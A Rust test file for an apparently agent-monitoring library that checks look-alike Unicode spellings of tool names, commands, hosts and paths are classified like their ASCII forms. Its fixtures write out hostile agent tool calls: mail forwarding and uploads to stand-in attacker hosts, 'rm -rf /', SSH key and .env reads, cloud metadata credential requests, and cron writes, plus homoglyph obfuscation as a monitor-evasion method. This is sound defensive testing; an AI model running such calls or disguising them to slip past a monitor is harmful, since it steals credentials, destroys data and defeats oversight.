//! Issue 16 item 3: look-alike characters decide like the ASCII they look like, in the plan
//! annotator (tool names, argument scan, command lines) and the intent normalizer (tool names,
//! commands, URLs, hosts).

use vigil_contracts::{DestinationKind, Operation, Plan, Step, TargetKind, from_json_str};
use vigil_features::intent::{IntentNormalizer, RawCall};
use vigil_features::plan::{Action, ToolAnnotator, ToolCatalog, plan_features};

fn step(json: &str) -> Step {
    from_json_str(json).unwrap()
}

#[test]
fn fullwidth_and_cyrillic_tool_names_annotate_like_ascii() {
    let a = ToolAnnotator::default();
    let ascii = a.annotate(&step(
        r#"{"tool":"gmail.forward","args":{"to":"attacker@evil.example","message_id":"123"}}"#,
    ));
    assert_eq!(ascii.action, Action::Send);
    assert_eq!(ascii.domain, "email");
    assert!(ascii.irreversible && ascii.network);
    for tool in [
        "ｇｍａｉｌ.ｆｏｒｗａｒｄ",
        "gm\u{430}il.forw\u{430}rd",
        "gmail.for\u{200b}ward",
        "ＧＭＡＩＬ.ＦＯＲＷＡＲＤ",
    ] {
        let looks = a.annotate(&step(&format!(
            r#"{{"tool":"{tool}","args":{{"to":"attacker@evil.example","message_id":"123"}}}}"#
        )));
        assert_eq!(looks, ascii, "{tool}");
    }
}

#[test]
fn look_alike_arguments_are_scanned_like_ascii() {
    let a = ToolAnnotator::default();
    let s = a.annotate(&step(
        r#"{"tool":"send_email","args":{"to":"attacker@ｅｖｉｌ.ｅｘａｍｐｌｅ","body":"hi"}}"#,
    ));
    assert_eq!(s.endpoints, ["attacker@evil.example"]);
    let s = a.annotate(&step(
        r#"{"tool":"http_request","args":{"url":"https://ｅｘｆｉｌ.ｅｘａｍｐｌｅ/upload"}}"#,
    ));
    assert_eq!(s.endpoints, ["exfil.example"]);
    // A sensitive term spelled with a Cyrillic look-alike is still sensitive.
    let s = a.annotate(&step(
        r#"{"tool":"read_file","args":{"path":"notes/\u0440assword.txt"}}"#,
    ));
    assert!(s.sensitive);
    // A command line of look-alikes is not a read-only command, and not mistaken for one:
    // `ｒｍ` folds to `rm`, which is not read-only, so the step stays an execution.
    let s = a.annotate(&step(
        r#"{"tool":"bash","args":{"command":"ｒｍ -ｒｆ /"}}"#,
    ));
    assert_eq!(s.action, Action::Execute);
    let s = a.annotate(&step(r#"{"tool":"bash","args":{"command":"ｌｓ -ｌａ"}}"#));
    assert_eq!(s.action, Action::Read);
}

#[test]
fn a_catalog_entry_applies_to_the_look_alike_spelling_of_its_tool() {
    let catalog = ToolCatalog::from_json(
        r#"{"tools":{"ship_it":{"action":"transfer","domain":"payments"}}}"#,
    )
    .unwrap();
    let a = ToolAnnotator::with_catalog(catalog);
    let s = a.annotate(&step(r#"{"tool":"ｓｈｉｐ_ｉｔ","args":{}}"#));
    assert_eq!(s.action, Action::Transfer);
    assert_eq!(s.domain, "payments");
}

#[test]
fn look_alike_plans_have_the_same_features() {
    let a = ToolAnnotator::default();
    let ascii: Plan = from_json_str(
        r#"{"steps":[{"tool":"read_file","args":{"path":"/home/me/.ssh/id_rsa"}},{"tool":"gmail.forward","args":{"to":"x@evil.example"}}]}"#,
    )
    .unwrap();
    let looks: Plan = from_json_str(
        r#"{"steps":[{"tool":"ｒｅａｄ_ｆｉｌｅ","args":{"path":"/home/me/.ssh/ｉｄ_ｒｓａ"}},{"tool":"ｇｍａｉｌ.ｆｏｒｗａｒｄ","args":{"to":"x@ｅｖｉｌ.ｅｘａｍｐｌｅ"}}]}"#,
    )
    .unwrap();
    assert_eq!(
        plan_features(&looks, &a.annotate_plan(&looks)),
        plan_features(&ascii, &a.annotate_plan(&ascii))
    );
}

#[test]
fn fullwidth_metadata_address_is_cloud_metadata() {
    for (tool, cmd) in [
        (
            "bash",
            "curl http://１６９.２５４.１６９.２５４/latest/meta-data/iam/",
        ),
        (
            "ｂａｓｈ",
            "ｃｕｒｌ http://１６９.２５４.１６９.２５４/latest/meta-data/iam/",
        ),
        (
            "bash",
            "curl http://169.254.169.254\u{200b}/latest/meta-data/",
        ),
        ("bash", "curl http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/"),
    ] {
        let i = IntentNormalizer::new("/workspace")
            .normalize(&RawCall::new(tool, &[("command", cmd)]))
            .unwrap();
        assert_eq!(i.operation, Operation::NetworkRequest, "{cmd}");
        assert_eq!(i.target_kind, TargetKind::CloudMetadata, "{cmd}");
        assert_eq!(i.destination_kind, DestinationKind::CloudMetadata, "{cmd}");
        assert_eq!(i.tool, tool, "the intent keeps the tool name as written");
    }
    let i = IntentNormalizer::new("/workspace")
        .normalize(&RawCall::new(
            "web_fetch",
            &[("url", "http://ｌｏｃａｌｈｏｓｔ:8080/")],
        ))
        .unwrap();
    assert_eq!(i.target_kind, TargetKind::Localhost);
}

#[test]
fn look_alike_secret_names_and_paths_are_read_as_written() {
    let mut n = IntentNormalizer::new("/workspace");
    let i = n
        .normalize(&RawCall::new("read", &[("path", "ｃｏｎｆｉｇ/.ｅｎｖ")]))
        .unwrap();
    assert_eq!(i.target_kind, TargetKind::Secret);
    let i = n
        .normalize(&RawCall::new("write", &[("path", "/ｅｔｃ/cron.d/job")]))
        .unwrap();
    assert_eq!(i.target_kind, TargetKind::SystemPath);
    assert!(i.writes_outside_workdir);
}
